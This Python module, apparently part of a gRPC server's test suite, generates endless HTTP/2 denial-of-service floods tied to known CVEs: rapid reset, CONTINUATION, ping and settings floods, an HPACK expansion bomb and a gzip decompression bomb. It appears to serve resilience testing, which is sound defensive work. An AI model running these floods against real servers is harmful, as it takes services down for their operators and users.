"""Floods of HTTP/2 frames that cost their sender little: what one connection sends, without an end."""

import gzip
import struct
from collections.abc import Callable, Iterator
from itertools import count

from tests.serving.embedded.grpc.raw_http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADER_TABLE_SIZE,
    HEADERS,
    INITIAL_WINDOW,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    call,
    frame,
    header_block,
    opening,
    text,
)

AT_ONCE = 100  # streams that are opened in one go
LARGEST_FRAME = 16_000
UNKNOWN = 0x7F
INFER, STREAM_INFER = "ModelInfer", "ModelStreamInfer"


def rapid_reset() -> Iterator[bytes | None]:
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
    yield opening()
    cancelled = struct.pack(">I", CANCEL)
    for streams in _streams():
        yield b"".join(call(stream, INFER) + frame(RST_STREAM, 0, stream, cancelled) for stream in streams)


def unknown_methods() -> Iterator[bytes | None]:
    """Calls of what there is not, whole at once."""
    yield opening()
    block = header_block("Nothing")
    for streams in _streams():
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in streams)


def continuing() -> Iterator[bytes | None]:
    """A head that goes on and on (VU#421644)."""
    yield opening() + frame(HEADERS, 0, 1, header_block(INFER))
    yield from _again(frame(CONTINUATION, 0, 1, b"\0" + text("x" * 20) + text("y" * 100)) * 500)


def continuing_with_nothing() -> Iterator[bytes | None]:
    """The same in frames that hold nothing."""
    yield opening() + frame(HEADERS, 0, 1, header_block(INFER))
    yield from _again(frame(CONTINUATION, 0, 1) * 5000)


def pinging() -> Iterator[bytes | None]:
    """Pings, each of which wants an answer (CVE-2019-9512)."""
    yield opening()
    yield from _again(frame(PING, 0, 0, b"12345678") * 3000)


def setting() -> Iterator[bytes | None]:
    """Settings that change nothing, each of which wants an answer (CVE-2019-9515)."""
    yield opening()
    yield from _again(frame(SETTINGS, 0, 0) * 5000)


def setting_much() -> Iterator[bytes | None]:
    """Frames full of settings."""
    yield opening()
    pairs = struct.pack(">HI", INITIAL_WINDOW, 65535) + struct.pack(">HI", HEADER_TABLE_SIZE, 4096)
    yield from _again(frame(SETTINGS, 0, 0, pairs * (LARGEST_FRAME // len(pairs))) * 4)


def widening() -> Iterator[bytes | None]:
    """Windows that grow by a byte, of the connection and of a call."""
    yield opening() + call(1, INFER)
    one = struct.pack(">I", 1)
    yield from _again((frame(WINDOW_UPDATE, 0, 0, one) + frame(WINDOW_UPDATE, 0, 1, one)) * 2500)


def sending_nothing() -> Iterator[bytes | None]:
    """Frames of data that hold none and do not end (CVE-2019-9518)."""
    yield opening() + call(1, INFER)
    yield from _again(frame(DATA, 0, 1) * 7000)


def sending_empty_messages() -> Iterator[bytes | None]:
    """Messages of no byte in a stream, each of which is answered."""
    yield opening() + call(1, STREAM_INFER)
    yield from _again(frame(DATA, 0, 1, bytes(5) * 100))


def ranking() -> Iterator[bytes | None]:
    """Priorities, of calls that there are not (CVE-2019-9513)."""
    yield opening()
    yield from _again(b"".join(frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 16)) for stream in range(1, 9000, 2)))


def unknown_frames() -> Iterator[bytes | None]:
    """Frames that mean nothing."""
    yield opening()
    yield from _again(frame(UNKNOWN, 0, 0, bytes(10)) * 3500)


def leaving() -> Iterator[bytes | None]:
    """Farewells."""
    yield opening()
    yield from _again(frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0) + bytes(100)) * 500)


def expanding_heads() -> Iterator[bytes | None]:
    """Heads whose every byte stands for four thousand (CVE-2016-6581)."""
    large = b"\x40" + text("x") + b"\x7f" + bytes([0x80 | (3900 - 127) & 0x7F, 3900 - 127 >> 7]) + b"a" * 3900
    yield opening() + frame(HEADERS, END_HEADERS | END_STREAM, 1, header_block(INFER) + large)
    block = header_block(INFER) + b"\xbe" * 15_000  # the newest entry of the table
    for stream in count(3, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


def resizing_the_table() -> Iterator[bytes | None]:
    """Heads that empty HPACK's table and make it large again."""
    yield opening()
    block = b"\x20\x3f\xe1\x1f" + header_block(INFER)
    for streams in _streams():
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in streams)


def inflating() -> Iterator[bytes | None]:
    """Messages a thousand times as large as what is sent."""
    bomb = gzip.compress(bytes(15 << 20))
    whole = b"\1" + struct.pack(">I", len(bomb)) + bomb
    yield opening()
    for stream in count(1, 2):
        yield call(stream, INFER, grpc_encoding="gzip") + frame(DATA, END_STREAM, stream, whole)


FLOODS: tuple[Callable[[], Iterator[bytes | None]], ...] = (
    rapid_reset, unknown_methods, continuing, continuing_with_nothing, pinging, setting, setting_much, widening,
    sending_nothing, sending_empty_messages, ranking, unknown_frames, leaving, expanding_heads, resizing_the_table,
    inflating,
)  # fmt: skip


def _streams() -> Iterator[range]:
    """The numbers of new streams, some at a time."""
    for first in count(1, 2 * AT_ONCE):
        yield range(first, first + 2 * AT_ONCE, 2)


def _again(content: bytes) -> Iterator[bytes | None]:
    while True:
        yield content
